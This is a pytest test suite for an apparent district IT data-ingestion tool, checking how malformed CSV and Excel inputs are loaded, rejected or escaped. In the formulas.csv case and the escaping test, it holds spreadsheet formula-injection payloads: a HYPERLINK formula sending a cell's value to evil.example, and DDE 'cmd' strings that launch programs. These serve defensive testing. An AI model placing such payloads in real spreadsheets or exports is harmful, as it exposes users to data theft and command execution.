"""A corpus of bad inputs, each with the outcome it must have: what loads, what is rejected and why.

The small files are in tests/data/bad_inputs/; the big ones (200,000 rows, 1 MB cells) are
written here. ``password.xlsx`` is a two-row contracts workbook saved by openpyxl and encrypted
with msoffcrypto-tool (a dev dependency), password ``district``:
``OOXMLFile(open("plain.xlsx", "rb")).encrypt("district", open("password.xlsx", "wb"))``;
``truncated.xlsx`` is the first half of the same unencrypted workbook's bytes.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import shutil
from dataclasses import dataclass, field
from decimal import Decimal
from pathlib import Path
from typing import Any

import msoffcrypto
import pytest
from sqlalchemy import func, select
from typer.testing import CliRunner

from assistant.cli import app
from assistant.slack import rows_csv
from ingest.load import FileReport, ingest_paths
from ingest.schema import Contract, Device, IngestFile, Purchase, Reject, SourceRecord, Ticket

CORPUS = Path(__file__).resolve().parents[1] / "data" / "bad_inputs"
ROOT = Path(__file__).resolve().parents[2]


@dataclass
class Case:
    """One input and its expected outcome."""

    file: str
    error: str | None = None  # the reason it cannot be read at all; then nothing loads
    loaded: int = 0  # rows loaded (one source record each)
    # (row, column, start of the reason, whole row rejected?)
    rejects: list[tuple[int, str | None, str, bool]] = field(default_factory=list)
    stored: tuple[Any, ...] = ()  # columns to read back...
    expected: set[tuple[Any, ...]] = field(default_factory=set)  # ...and the rows they hold


CASES = [
    Case("empty.csv", error="the file is empty"),
    Case("header_only.csv", loaded=0),  # a valid empty export: loads, 0 rows, exit 0
    Case("binary.csv", error="this is not a text file (it contains binary data)"),
    Case("binary_no_nul.csv", error="this is not a text file (it looks like binary data)"),
    Case(
        "workbook_named.csv",
        error="this is a ZIP file (an Excel .xlsx workbook?), not a text "
        "file: if it is a workbook, name it .xlsx",
    ),  # fmt: skip
    Case("unknown_headers.csv", error="cannot tell what this file holds from its headers"),
    Case("truncated.xlsx", error="the workbook is damaged or incomplete"),
    Case("password.xlsx", error="the workbook is password-protected: open it in Excel, remove"),
    Case(
        "latin1.csv",
        loaded=2,
        stored=(Contract.vendor_as_written, Contract.product),
        expected={("Café Software", "Menú planner"), ("Niño Learning", "Lectura")},
    ),
    Case(
        "utf8_bom.csv",  # the BOM is not part of the first header, so 'Serial' is found
        loaded=2,
        stored=(Device.serial, Device.model),
        expected={("BOM001", "Dell Latitude 3190"), ("BOM002", "HP Chromebook 11 G9")},
    ),
    Case(
        "ragged.csv",  # too few cells: the rest are blank; too many: the values have shifted
        loaded=4,
        rejects=[
            (4, None, "the row has 6 cells but the header has 4 (column 5 holds a value)", True)
        ],  # fmt: skip
        stored=(Contract.vendor_as_written, Contract.product, Contract.annual_cost),
        expected={
            ("Clever", "Secure Sync", Decimal("5000.00")),
            ("Zoom", "Education", None),
            ("Seesaw", "Seesaw", None),
            ("Kami", "Pro", Decimal("1500.00")),
        },  # fmt: skip
    ),
    Case(
        "duplicate_headers.csv",
        loaded=2,
        rejects=[
            (1, "Serial", "column 3 repeats the header of column 1: column 1 is loaded", False)
        ],  # fmt: skip
        stored=(Device.serial,),
        expected={("DUP001",), ("DUP002",)},
    ),
    Case(
        "year_2200.csv",
        loaded=2,
        rejects=[(2, "Renewal Date", "date 2200-07-01 is outside 1980-2100", False)],
        stored=(Contract.vendor_as_written, Contract.renewal_date),
        expected={("Clever", None), ("Zoom", dt.date(2027, 7, 1))},
    ),
    Case(
        "device_amounts.csv",
        loaded=5,
        rejects=[
            (3, "Purchase Cost", "a device's purchase cost cannot be negative (-$350.00)", False),
            (
                4,
                "Purchase Cost",
                "$10,000,000.00 is more than a device's purchase cost may be "
                "($1,000,000.00 at most)",
                False,
            ),  # fmt: skip
            (5, "Purchase Cost", "'1e30' is not an amount", False),
            (6, "Purchase Cost", "$99,999,999,999,999,999,999,999.00 is more than", False),
        ],
        stored=(Device.serial, Device.purchase_cost),
        expected={
            ("AMT001", Decimal("1099.00")),
            ("AMT002", None),
            ("AMT003", None),
            ("AMT004", None),
            ("AMT005", None),
        },  # fmt: skip
    ),
    Case(
        "po_amounts.csv",  # a credit line is negative and loads; $300 billion does not
        loaded=3,
        rejects=[(4, "Amount", "$300,000,000,000.00 is more than a PO line amount may be", False)],
        stored=(Purchase.po_number, Purchase.quantity, Purchase.amount),
        expected={
            ("PO-1001", 30, Decimal("9000.00")),
            ("PO-1002", -2, Decimal("-600.00")),
            ("PO-1003", 1, None),
        },  # fmt: skip
    ),
    Case(
        "ticket_counts.csv",
        loaded=4,
        rejects=[
            (3, "Labor Minutes", "a ticket's labour minutes cannot be negative (-5)", False),
            (
                4,
                "Labor Minutes",
                "600,000 is more than a ticket's labour minutes may be (525,600 at most)",
                False,
            ),  # fmt: skip
            (
                5,
                "Labor Minutes",
                "'99999999999' is not a count: it is larger than 2,147,483,647",
                False,
            ),  # fmt: skip
        ],
        stored=(Ticket.external_id, Ticket.labor_minutes),
        expected={("T-1", 30), ("T-2", None), ("T-3", None), ("T-4", None)},
    ),
    Case(
        "contract_terms.csv",  # terms and notice periods past a century would overflow dates
        loaded=3,
        rejects=[
            (3, "Term", "'1000000' is not a number of months: more than 1,200 (100 years)", False),
            (4, "Notice Period", "'99999 days' is not a number of days: more than 36,500", False),
        ],
        stored=(Contract.vendor_as_written, Contract.term_months, Contract.notice_days),
        expected={("Clever", 36, 60), ("Zoom", None, 30), ("Kami", 12, None)},
    ),
    Case(
        "formulas.csv",  # kept as the text they are, never evaluated
        loaded=3,
        stored=(Ticket.external_id, Ticket.subject, Ticket.requester),
        expected={
            ("=1+1", '=HYPERLINK("http://evil.example/?"&A1;"click")', "@bob"),
            ("T-2", "-2+3 cmd|' /C calc'!A0", "=cmd|' /C notepad'!A0"),
            ("T-3", "Projector dim", "Ann Lee"),
        },
    ),
]


def rows_of(store, *columns: Any) -> set[tuple[Any, ...]]:
    with store.read_session() as session:
        return {tuple(row) for row in session.execute(select(*columns))}


def count(store, column: Any) -> int:
    with store.read_session() as session:
        return session.scalar(select(func.count(column))) or 0


def check_rejects(report: FileReport, expected: list[tuple[int, str | None, str, bool]]) -> None:
    """The report's rejects are exactly these, and so are the rows stored in ``rejects``."""
    found = [(r.row, r.column, r.reason, r.row_rejected) for r in report.rejects]
    assert len(found) == len(expected), found
    for (row, column, reason, whole), wanted in zip(found, expected, strict=True):
        assert (row, column, whole) == (wanted[0], wanted[1], wanted[3])
        assert reason.startswith(wanted[2]), reason
    assert report.rejected == len({row for row, _, _, whole in expected if whole})


@pytest.fixture
def corpus(tmp_path: Path) -> Path:
    """A copy of the bad inputs: ingest writes a mapping.yaml beside a file that lacks a need."""
    copied = tmp_path / "bad_inputs"
    shutil.copytree(CORPUS, copied)
    return copied


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.file)
def test_each_bad_input_has_its_expected_outcome(case: Case, store, corpus: Path) -> None:
    path = corpus / case.file
    (report,) = ingest_paths([path], store)
    assert report.path == str(path)
    if case.error:
        assert (report.status, report.ok) == ("unreadable", False)
        assert report.error.startswith(case.error), report.error
        assert count(store, IngestFile.id) == count(store, SourceRecord.id) == 0
        return
    assert report.status == "loaded", report.error
    check_rejects(report, case.rejects)
    assert count(store, SourceRecord.id) == case.loaded
    assert report.rows_read == case.loaded + report.rejected + report.skipped_notes
    with store.read_session() as session:
        stored = session.execute(select(Reject.file, Reject.row, Reject.column)).all()
    assert sorted(stored) == sorted((case.file, row, col) for row, col, _, _ in case.rejects)
    if case.stored:
        assert rows_of(store, *case.stored) == case.expected


def test_the_password_protected_workbook_really_is_encrypted() -> None:
    with (CORPUS / "password.xlsx").open("rb") as handle:
        assert msoffcrypto.OfficeFile(handle).is_encrypted()


def test_the_cli_names_the_file_row_and_column_of_every_problem_and_fails_on_unreadable(
    data_dir: Path, corpus: Path
) -> None:
    result = CliRunner().invoke(
        app, ["ingest", str(corpus), "--data-dir", str(data_dir), "--no-index"],
        env={"COLUMNS": "400"}, catch_exceptions=False,
    )  # fmt: skip
    assert result.exit_code == 1
    out = result.output
    assert "Traceback" not in out
    for case in CASES:
        path = str(corpus / case.file)
        if case.error:
            assert f"{path}: cannot be read: {case.error}" in out
            continue
        if case.rejects:
            section = out[out.index(f"{path}: {len(case.rejects)} problems") :]
            for row, column, reason, _ in case.rejects:
                where = f"row {row}" + (f", column {column!r}" if column else "")
                assert f"  {where}: {reason}" in section


def test_formula_cells_are_escaped_in_the_csv_we_write(store, corpus: Path) -> None:
    ingest_paths([corpus / "formulas.csv"], store)
    with store.read_session() as session:
        tickets = session.execute(select(Ticket.external_id, Ticket.subject, Ticket.requester))
        rows = [{"id": i, "subject": s, "requester": r} for i, s, r in tickets]
    written = list(csv.reader(io.StringIO(rows_csv(rows))))
    cells = [cell for row in written[1:] for cell in row]
    assert "'=1+1" in cells and "'@bob" in cells and "'-2+3 cmd|' /C calc'!A0" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]


def test_the_slack_csv_is_the_only_csv_we_write() -> None:
    """A new CSV writer must escape formulas too; this lists every place that writes CSV."""
    writers = re.compile(r"csv\.writer\(|DictWriter\(|\.to_csv\(")
    found = {
        str(path.relative_to(ROOT))
        for folder in ("assistant", "tools", "slack", "ingest")
        if (ROOT / folder).exists()
        for path in (ROOT / folder).rglob("*.py")
        if writers.search(path.read_text(encoding="utf-8"))
    }
    # ingest/sample.py writes the sample district's exports, which are inputs, not answers.
    assert found == {"assistant/slack.py", "ingest/sample.py"}


def test_very_long_cells_are_kept_in_text_columns_and_refused_where_they_cannot_fit(
    store, write_csv
) -> None:
    megabyte = "The screen flickers. " * 50_000  # 1,050,000 characters
    path = write_csv(
        "long_cells.csv",
        "Ticket ID,Subject,Description,Requester,Created",
        f"L-1,Flicker,{megabyte},Ann Lee,2026-10-01T08:00:00",
        f"L-2,Long name,Short,{'R' * 300},2026-10-02T08:00:00",
        f"{'X' * 200},Long id,Short,Ann Lee,2026-10-03T08:00:00",
        "L-4,Fine,Short,Ann Lee,2026-10-04T08:00:00",
    )
    (report,) = ingest_paths([path], store)
    check_rejects(
        report,
        [
            (3, "Requester", "the text is 300 characters long; this column holds at most 255",
             False),
            (4, "Ticket ID", "the text is 200 characters long; this column holds at most 128",
             True),
        ],
    )  # fmt: skip
    assert rows_of(
        store, Ticket.external_id, func.length(Ticket.description), Ticket.requester
    ) == {
        ("L-1", len(megabyte.strip()), "Ann Lee"),
        ("L-2", 5, None),
        ("L-4", 5, "Ann Lee"),
    }
    with store.read_session() as session:
        raw = session.scalars(select(SourceRecord.raw).where(SourceRecord.row == 2)).one()
    assert raw[2] == megabyte  # the cell as read is kept whole in the source record


@pytest.mark.slow
def test_a_200k_row_file_loads_whole_and_its_bad_rows_are_named(store, tmp_path) -> None:
    rows = 200_000
    path = tmp_path / "tickets_200k.csv"
    with path.open("w", encoding="utf-8") as handle:
        handle.write("Ticket ID,Subject,Created\n")
        for i in range(rows):
            ticket_id = "" if i in (0, 123_456, rows - 1) else f"K{i:06d}"
            handle.write(f"{ticket_id},Screen {i % 50},2026-{1 + i % 12:02d}-01T08:00:00\n")
    (report,) = ingest_paths([path], store)
    assert (report.rows_read, report.inserted, report.rejected) == (rows, rows - 3, 3)
    assert [(r.row, r.column, r.reason) for r in report.rejects] == [
        (row, "Ticket ID", "external id is blank") for row in (2, 123_458, rows + 1)
    ]
    assert count(store, Ticket.id) == count(store, SourceRecord.id) == rows - 3
